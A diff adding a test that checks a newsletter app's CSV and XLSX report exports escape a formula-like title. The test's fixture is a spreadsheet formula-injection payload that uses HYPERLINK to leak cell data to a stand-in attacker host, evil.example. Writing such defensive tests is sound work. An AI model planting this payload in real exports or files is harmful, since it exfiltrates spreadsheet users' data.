@@ -695,6 +695,35 @@ def test_reports_download_as_csv_xlsx_and_html_for_viewers_too(served: Served) -
     )
 
 
+def test_report_downloads_keep_a_formula_like_title_as_text(served: Served) -> None:
+    import csv
+    from io import BytesIO, StringIO
+
+    from openpyxl import load_workbook
+
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
+    with Session(served.engine) as session:  # type: ignore[arg-type]
+        session.add(
+            Newsletter(
+                title=title,
+                subject="S",
+                template="mois-ess",
+                status=NewsletterStatus.sent,
+                sent_at=datetime.fromisoformat("2026-11-03T09:00:00+01:00"),
+            )
+        )
+        session.commit()
+    viewer = served.client("viewer")
+    url = served.url + "/reports/export/newsletters"
+    query = {"table": "newsletters", "date_from": "2026-01-01"}
+    answer = viewer.get(url, params={"format": "csv", **query})
+    rows = list(csv.reader(StringIO(answer.text)))
+    assert rows[1][0] == "'" + title
+    answer = viewer.get(url, params={"format": "xlsx", **query})
+    cell = load_workbook(BytesIO(answer.content)).active["A2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)
+
+
 def test_pausing_and_resuming_a_newsletter_that_is_sending(served: Served) -> None:
     _people(served)
     with Session(served.engine) as session:  # type: ignore[arg-type]
